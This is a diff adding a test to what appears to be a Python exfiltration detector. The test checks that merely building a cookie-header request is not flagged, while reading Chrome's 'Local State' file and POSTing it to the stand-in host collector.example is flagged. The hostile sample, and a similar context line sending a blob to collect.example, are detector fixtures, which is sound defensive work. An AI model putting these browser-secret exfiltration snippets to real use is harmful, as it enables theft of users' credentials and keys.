@@ -233,3 +233,19 @@ def test_picking_proxy_variables_from_the_environment_is_no_dump() -> None:
         "    urllib.request.urlopen('https://collect.example/e', data=blob.encode())\n"
     )
     assert "PV-EXF-COMBO" in ids(run(ALL, dump))
+
+
+def test_building_a_request_object_sends_nothing() -> None:
+    store = "p = os.getenv('LOCALAPPDATA') + '\\\\Google\\\\Chrome\\\\User Data\\\\Local State'\n"
+    # A cookie jar filling in a Cookie header (yt-dlp's cookies.py) never opens a connection.
+    benign = py(
+        "import os, urllib.request\n" + store + "def header(jar, url):\n"
+        "    req = urllib.request.Request(url)\n    jar.add_cookie_header(req)\n"
+        "    return req.get_header('Cookie')\n"
+    )
+    assert "PV-EXF-COMBO" not in ids(run(ALL, benign))
+    sent = py(
+        "import os, urllib.request\n" + store + "opener = urllib.request.build_opener()\n"
+        "opener.open(urllib.request.Request('https://collector.example/up', data=open(p, 'rb').read()))\n"
+    )
+    assert "PV-EXF-COMBO" in ids(run(ALL, sent))
